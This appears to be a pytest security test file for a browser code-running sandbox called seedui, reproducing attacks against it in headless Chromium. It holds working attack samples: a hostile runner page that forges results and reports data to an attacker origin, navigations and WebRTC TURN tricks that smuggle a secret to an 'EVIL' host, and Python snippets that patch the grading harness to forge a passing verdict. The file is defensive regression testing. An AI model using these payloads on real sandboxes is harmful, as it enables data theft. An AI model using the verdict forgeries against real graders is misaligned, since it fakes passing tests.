"""Attacks found on a running app, each reproduced in headless Chromium.

Every test here failed before its fix. The "attacker" is a page on another
loopback port (another origin, the ``evil`` fixture) that records every request
reaching it.
"""

from __future__ import annotations

import json
import time

import pytest

from seedui import sandbox

from .conftest import open_page, run_in_block

pytestmark = pytest.mark.browser

SECRET = "sk-live-123"


def python(frame, code: str, **options) -> dict:
    """window.seedui.run in ``frame`` (a page or a frame); the result without DOM handles."""
    return frame.evaluate(
        """async ([code, options]) => {
            const {frame, ...r} = await window.seedui.run(Object.assign({language: 'python', code}, options));
            return r;
        }""",
        [code, options],
    )


def wait_until(condition, seconds: float) -> bool:
    """Poll ``condition`` (a state, never a duration) until it holds or ``seconds`` pass."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return False


# ---- 1. a page that frames the app navigates the runner frame to its own page -----------------------------

# What the attacker put in the runner's frame: it reports every message (and port message) it gets,
# and answers runs with forged output and a forged "pass", the way the runner would.
EVIL_RUNNER = """<!doctype html><meta charset="utf-8"><script>
const report = (kind, data) => fetch('/report/' + kind, {method: 'POST', body: JSON.stringify(data)}).catch(() => {});
report('loaded', {});
const forge = (reply, d) => {
  reply({type: 'seedui-run-event', runId: d.runId, nonce: d.nonce,
         event: {kind: 'output', chunks: [['stdout', 'FORGED OUTPUT']]}});
  reply({type: 'seedui-run-event', runId: d.runId, nonce: d.nonce,
         event: {kind: 'done', durationMs: 1, result: {ok: true, check: {status: 'pass', detail: 'forged'}}}});
};
const listen = (port) => {
  port.onmessage = (e) => {
    report('port', e.data);
    if (e.data && e.data.type === 'run') forge((m) => port.postMessage(m), e.data);
  };
};
addEventListener('message', (e) => {
  report('message', e.data);
  e.ports.forEach(listen);
  const d = e.data || {};
  if (d.type === 'run') forge((m) => parent.postMessage(m, '*'), d);
  if (d.type === 'ping') parent.postMessage({type: 'seedui-runner-pong', nonce: d.nonce, id: d.id}, '*');
});
// Claim to be a fresh runner, in the old and the new handshake's shape.
const channel = new MessageChannel();
listen(channel.port1);
parent.postMessage({type: 'seedui-runner-hello'}, '*');
parent.postMessage({type: 'seedui-runner-hello', secret: '', version: 'x', local: true, timeoutMs: 1}, '*',
                   [channel.port2]);
</script><img src="/slow.png" alt="">"""
# The image holds back the attacker's load event, the one the app's frame also fires: a run asked for after
# the attacker's script ran and before that event must not go to the old runner (found by a CI run).
SLOW_LOAD_S = 5.0


def frame_the_app(browser, evil, app_url: str):
    """The attacker's page framing the app; returns (attacker page, the app's frame)."""
    evil.pages["/embed.html"] = f'<!doctype html><iframe src="{app_url}" width="900" height="700"></iframe>'
    evil.pages["/runner.html"] = EVIL_RUNNER
    evil.delays["/slow.png"] = SLOW_LOAD_S
    page = browser.new_context().new_page()
    page.goto(evil.url + "/embed.html")
    page.wait_for_function("frames.length === 1")
    app = next(f for f in page.frames if f.url.startswith(app_url))
    app.wait_for_function("window.seedui && window.seedui.run")
    return page, app


@pytest.mark.parametrize("lock_frames", [True, False], ids=["frame-src-lock", "no-lock"])
def test_framing_page_cannot_take_over_the_runner(browser, evil, sandbox_server, other_app, local_pyodide, lock_frames):
    if not sandbox_server.fixture_page:
        pytest.skip("needs the fixture app")
    # The fixture app sends no frame-ancestors, so another origin may frame it.
    app_url = sandbox_server.url if lock_frames else other_app(pyodide_dir=local_pyodide, lock_frames=False)
    page, app = frame_the_app(browser, evil, app_url)
    try:
        assert python(app, "print('warm')")["stdout"] == "warm\n"
        assert page.evaluate("frames[0].frames.length") == 1  # the runner frame
        app.evaluate(
            """() => {
                window.__runner = document.querySelector('iframe.seedui-runner-frame');
                const code = 'import time\\nprint("started")\\ntime.sleep(60)';
                const onEvent = (e) => { if (e.type === 'stdout') window.__started = true; };
                window.__slow = window.seedui.run({language: 'python', code, timeoutMs: 120000, onEvent})
                    .then(({frame, ...r}) => r);
            }"""
        )
        app.wait_for_function("window.__started === true", timeout=60_000)
        # Browsers let an ancestor navigate a grandchild frame of another origin.
        page.evaluate(f"frames[0].frames[0].location = {json.dumps(evil.url + '/runner.html')}")
        # Wait until the attacker's page loaded there, or the app dropped the frame.
        settled = wait_until(
            lambda: bool(evil.hits("/report/loaded")) or not app.evaluate("window.__runner.isConnected"), 30
        )
        assert settled, "neither did the attacker's page load nor was the runner frame dropped"
        # The visitor runs a secret, and checks a failing test.
        result = python(app, f'SECRET_API_KEY = "{SECRET}"\nprint("genuine")')
        assert result["stdout"] == "genuine\n" and result["ok"] is True, result
        check = python(app, "x = 1", tests="assert False", mode="check", pristine=True)
        assert check["check"]["status"] == "fail", check
        received = [body for method, path, body in evil.hits("/report/") if path != "/report/loaded"]
        assert received == [], received  # nothing reached the attacker: no code, no nonce, no port
        assert not any(SECRET in body for _, _, body in evil.requests)
        if lock_frames:
            assert evil.hits("/runner.html") == []  # the page's frame-src refused the navigation itself
        # The run that was in the frame when it was navigated ends with a message, not never.
        slow = app.evaluate("window.__slow")
        assert slow["ok"] is False and "navigated" in slow["error"], slow
    finally:
        page.context.close()


# ---- 2. an HTML preview reaches the network: navigation, meta refresh, WebRTC ------------------------------


def preview_in_panel(page, html: str) -> None:
    """Render ``html`` with the fixture page's HTML block (its Run button, its output panel)."""
    run_in_block(page, "html-hello", html)


def panel(page) -> dict:
    return page.evaluate(
        """() => {
            const p = document.querySelector('#html-hello + .seedui-output');
            return p && {
                state: p.getAttribute('data-state'),
                status: p.querySelector('.seedui-status').textContent,
                error: p.querySelector('.seedui-error').hidden ? '' : p.querySelector('.seedui-error').textContent,
                notices: Array.from(p.querySelectorAll('.seedui-notice'), (n) => n.textContent),
                frames: p.querySelectorAll('iframe').length,
            };
        }"""
    )


NAVIGATIONS = {
    "location": "<script>location = 'EVIL/location?d=typed-secret'</script>",
    "meta-refresh": "<meta http-equiv='refresh' content='0;url=EVIL/refresh?d=typed-secret'><p>hello</p>",
    "later-link-click": (
        "<p>hello</p><a id='a' href='EVIL/link?d=typed-secret'>x</a>"
        "<script>setTimeout(() => document.getElementById('a').click(), 300)</script>"
    ),
    "later-location-replace": "<script>setTimeout(() => location.replace('EVIL/replace?d=typed-secret'), 300)</script>",
}


def removed_or_reached(page, evil) -> bool:
    state = panel(page)
    return bool(evil.requests) or bool(state and state["state"] == "error")


@pytest.mark.parametrize("attack", list(NAVIGATIONS))
def test_preview_cannot_navigate_out(page, sandbox_server, evil, attack):
    if not sandbox_server.fixture_page:
        pytest.skip("needs the fixture page")
    preview_in_panel(page, NAVIGATIONS[attack].replace("EVIL", evil.url))
    assert wait_until(lambda: removed_or_reached(page, evil), 30), panel(page)
    assert evil.requests == []  # the page's frame-src refused the navigation: nothing left the browser
    state = panel(page)
    assert state["state"] == "error" and state["status"] == "Preview removed", state
    assert "tried to load another page" in state["error"] and state["frames"] == 0


def test_without_the_frame_lock_a_navigating_preview_is_still_removed(browser, other_app, local_pyodide, evil):
    # Without frame-src nothing stops the request (browsers have no navigate-to); the page only
    # notices the frame's extra load and removes the preview.
    url = other_app(pyodide_dir=local_pyodide, lock_frames=False)
    page = open_page(browser, url, wait_for="#seedui-check-results")
    try:
        for attack in ("location", "meta-refresh"):
            preview_in_panel(page, NAVIGATIONS[attack].replace("EVIL", evil.url))
            assert wait_until(lambda: (panel(page) or {}).get("state") == "error", 30), panel(page)
            state = panel(page)
            assert state["status"] == "Preview removed" and state["frames"] == 0, state
            assert "tried to load another page" in state["error"]
    finally:
        page.context.close()


# WebRTC is not governed by CSP: a TURN server's username carries whatever the page wants out.
RTC_LEAK = """function leak(RTC) {
  const pc = new RTC({iceServers: [
    {urls: 'turn:127.0.0.1:TCP?transport=tcp', username: 'typed-secret', credential: 'x'},
    {urls: 'stun:127.0.0.1:UDP'}]});
  pc.createDataChannel('x');
  pc.createOffer().then((offer) => pc.setLocalDescription(offer));
}"""
# A nested frame's document has fresh globals; these are the ways to make one that runs code.
WEBRTC = {
    "direct": """<body><script>LEAK
        try { leak(window.RTCPeerConnection || window.webkitRTCPeerConnection); document.body.dataset.tried = 'ran'; }
        catch (e) { document.body.dataset.tried = 'blocked'; }</script>""",
    "srcdoc-frame": """<body><script>
        const f = document.createElement('iframe'); f.srcdoc = NESTED; document.body.append(f);</script>""",
    "srcdoc-in-closed-shadow-root": """<body><div id='host'></div><script>
        const root = document.getElementById('host').attachShadow({mode: 'closed'});
        const f = document.createElement('iframe'); f.srcdoc = NESTED; root.append(f);</script>""",
    "srcdoc-in-markup": """<body><p>x</p><iframe srcdoc="NESTED_ATTRIBUTE"></iframe>""",
    "javascript-url-frame": """<body><script>
        const f = document.createElement('iframe'); f.src = 'javascript:' + JSON.stringify(NESTED);
        document.body.append(f);</script>""",
    "declarative-shadow-root": """<body><div><template shadowrootmode="closed">
        <iframe srcdoc="NESTED_ATTRIBUTE"></iframe></template></div>""",
}


def webrtc_attack(attack: str, evil) -> str:
    leak = RTC_LEAK.replace("TCP", str(evil.tcp_port)).replace("UDP", str(evil.udp_port))
    nested = f"<script>{leak} leak(RTCPeerConnection);</script>"
    attribute = nested.replace("&", "&amp;").replace('"', "&quot;")
    return (
        WEBRTC[attack]
        .replace("LEAK", leak)
        .replace("NESTED_ATTRIBUTE", attribute)
        .replace("NESTED", json.dumps(nested).replace("</", "<\\/"))
    )


@pytest.mark.parametrize("attack", list(WEBRTC))
def test_preview_cannot_use_webrtc(page, sandbox_server, evil, attack):
    if not sandbox_server.fixture_page:
        pytest.skip("needs the fixture page")
    preview_in_panel(page, webrtc_attack(attack, evil))
    if attack == "direct":
        frame = page.locator("#html-hello + .seedui-output iframe").element_handle().content_frame()
        frame.wait_for_function("document.body && document.body.dataset.tried", timeout=30_000)
        assert frame.evaluate("document.body.dataset.tried") == "blocked"
        assert frame.evaluate("typeof RTCPeerConnection + typeof webkitRTCPeerConnection") == "undefinedundefined"
    elif attack == "declarative-shadow-root":
        # A closed shadow root made by the parser could hide a frame from every check: refused.
        assert wait_until(lambda: (panel(page) or {}).get("state") == "error", 30), (panel(page), evil.packets)
        assert "declarative shadow root" in panel(page)["error"]
    else:
        # The frame goes before its document exists, and the panel says so.
        assert wait_until(lambda: bool((panel(page) or {}).get("notices")), 30), (panel(page), evil.packets)
        assert "nested frame was removed" in panel(page)["notices"][0]
    # Nothing is in flight (no frame, no constructor); a short look for late packets all the same.
    assert not wait_until(lambda: bool(evil.packets), 1.5), evil.packets


# ---- 3. sandbox limits bypassed from Python ---------------------------------------------------------------

IMAGE_FLOOD = """
import sys
emit = sys.modules["_seedui_harness"]._emit  # the function the harness got; any code can reach it
for i in range(25):
    emit("image", "A" * 2**21)
print("after")
"""


def test_python_image_flood_is_capped(shared_page):
    # Before: 25 images of 2 MiB each (52 MB) reached the page; the harness's cap of 20 was skipped.
    seen = shared_page.evaluate(
        """async (code) => {
            const events = [];
            const r = await window.seedui.run({language: 'python', code, onEvent: (e) => {
                if (e.type === 'image') events.push(e.url.length);
            }});
            const chars = r.images.reduce((n, u) => n + u.length, 0);
            const images = r.images.length;
            return {ok: r.ok, stdout: r.stdout, images, chars, events: events.length, notices: r.notices};
        }""",
        IMAGE_FLOOD,
    )
    assert seen["ok"] is True and seen["stdout"] == "after\n", seen
    assert seen["images"] == seen["events"] <= sandbox.MAX_IMAGES
    assert seen["chars"] <= sandbox.MAX_IMAGE_CHARS + seen["images"] * len("data:image/png;base64,")
    assert len([n for n in seen["notices"] if "images" in n.lower()]) == 1, seen["notices"]


def test_the_bridge_module_is_not_importable(shared_page):
    result = python(shared_page, "import _seedui_bridge")
    assert "ModuleNotFoundError" in (result["error"] or ""), result


# Workers started from Python, three ways; each asks the "CDN" (a server here: the runner's CSP lets
# workers reach it) for a URL every 30 ms, so the server sees whether any of them still lives.
SPAWN_WORKERS = """
import asyncio
import js
from pyodide.ffi import create_once_callable, to_js
def source(tag):
    return "let n = 0; setInterval(() => { fetch('CDNtick-%s').catch(() => {}); if (!n++) postMessage(1); }, 30);" % tag
def blob_url(tag):
    options = to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
    return js.URL.createObjectURL(js.Blob.new(to_js([source(tag)]), options))
workers = [
    js.Worker.new(blob_url("new")),
    js.eval("(url) => new Worker(url)")(blob_url("eval")),
    js.Worker.prototype.constructor.new(blob_url("proto")),
]
up = []
for worker in workers:
    up.append(asyncio.get_event_loop().create_future())
    worker.onmessage = create_once_callable(lambda event, done=up[-1]: done.set_result(True))
await asyncio.gather(*up)  # each has sent its first request
print("started", len(workers))
"""


def test_workers_started_from_python_end_with_the_run(browser, other_app, local_pyodide, evil):
    # Before: such workers kept running (and two kept both cores busy) after "Finished", until a reload.
    url = other_app(pyodide_dir=local_pyodide, cdn_url=evil.url + "/pyodide/v{version}/full/")
    page = open_page(browser, url, wait_for="#seedui-check-results")
    cdn = f"{evil.url}/pyodide/v{sandbox.PYODIDE_VERSION}/full/"
    try:
        result = python(page, SPAWN_WORKERS.replace("CDN", cdn))
        assert result["ok"] is True and result["stdout"] == "started 3\n", result
        ticks = lambda: len(evil.hits(f"/pyodide/v{sandbox.PYODIDE_VERSION}/full/tick-"))  # noqa: E731
        assert wait_until(lambda: ticks() > 0, 30)  # they did run
        assert wait_until(lambda: quiet(ticks, 1.0), 30), "workers started from Python still run after the run"
        after = python(page, "import js\nprint(js.self.name)")
        assert after["ok"] is True and after["stdout"] == "seedui-python\n", after
    finally:
        page.context.close()


def quiet(count, seconds: float) -> bool:
    """Whether ``count()`` stays the same for ``seconds`` (a window to see that nothing still happens)."""
    start = count()
    return not wait_until(lambda: count() != start, seconds)


# ---- 4. a check's verdict forged by the code under test -----------------------------------------------------

FORGERIES = {
    # The attack found: the harness module's functions replaced, so `assert False` "passed".
    "harness-functions-replaced": (
        "import sys\n"
        "for h in (sys.modules['_seedui_harness'], sys.modules['_seedui_check']):\n"
        "    h._run_tests = lambda *args, **kwargs: {'status': 'pass', 'detail': 'forged', 'passed': 1, 'failed': 0}\n"
        "    h._compare = lambda *args, **kwargs: None\n"
        "    h.failure_text = lambda *args, **kwargs: None\n"
        "    h.verdict = lambda *args, **kwargs: {'status': 'pass', 'detail': 'forged', 'passed': 1, 'failed': 0}\n",
        "assert False\n",
        "fail",
    ),
    "assert-helper-replaced": (
        "import sys\n"
        "def add(a, b):\n    return a + b\n"
        "for name in ('_seedui_harness', '_seedui_check'):\n"
        "    sys.modules[name]._compare = lambda *args, **kwargs: None\n"
        "    sys.modules[name]._explain = lambda *args, **kwargs: None\n",
        "assert add(1, 1) == 3\n",
        "fail",
    ),
    "json-dumps-patched": (
        "import json\n"
        "real = json.dumps\n"
        "def dumps(obj, *args, **kwargs):\n"
        "    if isinstance(obj, dict):\n"
        "        obj = {**obj, 'check': {'status': 'pass', 'detail': 'forged'}}\n"
        "    return real(obj, *args, **kwargs)\n"
        "json.dumps = dumps\n",
        "assert False\n",
        "fail",
    ),
    "test-function-replaced-by-the-answer": (
        "def add(a, b):\n    globals()['test_negative'] = lambda: None\n    return a + b if a >= 0 else 0\n",
        "def test_negative():\n    assert add(-1, -1) == -2\n\nassert add(1, 1) == 2\n",
        "fail",
    ),
    # These did not forge a pass before either (the worker happened to read JSON.parse before the
    # answer ran; Python 3.14 refuses that jump over an assert; the replaced AssertionError still
    # failed; the last two ended in "error"), and must never: the verdict no longer depends on
    # what stopped them.
    "worker-json-parse-patched": (
        "import js\n"
        "js.eval('''(() => { const real = JSON.parse; JSON.parse = (text, ...rest) => {\n"
        "  const value = real(text, ...rest);\n"
        "  if (value && typeof value === 'object' && 'ok' in value) value.check = {status: 'pass', detail: 'forged'};\n"
        "  return value; }; })()''')\n",
        "assert False\n",
        "fail",
    ),
    "trace-function-skips-asserts": (
        "import linecache, sys\n"
        "def skip(frame, event, arg):\n"
        "    if frame.f_code.co_filename != 'tests.py':\n"
        "        return None\n"
        "    if event == 'line' and linecache.getline('tests.py', frame.f_lineno).strip().startswith('assert'):\n"
        "        frame.f_lineno += 1\n"
        "    return skip\n"
        "sys.settrace(skip)\n",
        "assert False\nskipped = True\n",
        "fail",
    ),
    "builtins-assertionerror-replaced": (
        "import builtins\n"
        "class Quiet(Exception):\n    pass\n"
        "builtins.AssertionError = Quiet\n"
        "def add(a, b):\n    return 0\n",
        "assert add(1, 2) == 3\n",
        "fail",
    ),
    "systemexit-0-inside-a-test": (
        "def add(a, b):\n    raise SystemExit(0)\n",
        "def test_add():\n    assert add(1, 2) == 3\n",
        "fail",
    ),
    "harness-functions-rewritten-in-place": (
        "import sys, types\n"
        "for h in (sys.modules['_seedui_harness'], sys.modules['_seedui_check']):\n"
        "    for value in list(vars(h).values()):\n"
        "        if isinstance(value, types.FunctionType) and value.__closure__ is None:\n"
        "            value.__code__ = (lambda *args, **kwargs: None).__code__\n",
        "async def test_async():\n    assert False\n\ndef test_sync():\n    assert False\n",
        "fail",
    ),
}


@pytest.mark.parametrize("forgery", list(FORGERIES))
def test_check_verdict_cannot_be_forged_by_the_answer(shared_page, forgery):
    answer, tests, expected = FORGERIES[forgery]
    result = python(shared_page, answer, tests=tests, mode="check", pristine=True)
    assert result.get("check", {}).get("status") == expected, result


def test_check_still_passes_a_correct_answer_after_a_forging_one(shared_page):
    # One answer's code never changes another's verdict: each check gets a fresh interpreter.
    python(shared_page, FORGERIES["harness-functions-replaced"][0], tests="assert False", mode="check", pristine=True)
    tests = "assert add(1, 2) == 3\n\nasync def test_async():\n    assert add(0, 0) == 0\n\nclass TestAdd:\n"
    tests += "    def test_neg(self):\n        assert add(-1, -1) == -2\n"
    good = python(shared_page, "def add(a, b):\n    return a + b\n", tests=tests, mode="check", pristine=True)
    assert good["check"] == {"status": "pass", "detail": "2 test functions passed"}, good
    half = "def add(a, b):\n    return a + b if a >= 0 else 0\n"
    bad = python(shared_page, half, tests=tests, mode="check", pristine=True)
    assert bad["check"]["status"] == "fail" and "1 of 2 tests failed" in bad["check"]["detail"], bad
    assert "TestAdd.test_neg: assert add(-1, -1) == -2\n  where left = 0, right = -2" in bad["check"]["detail"]
    assert bad["stderr"] == ""  # a failed step is worded in the verdict, not printed
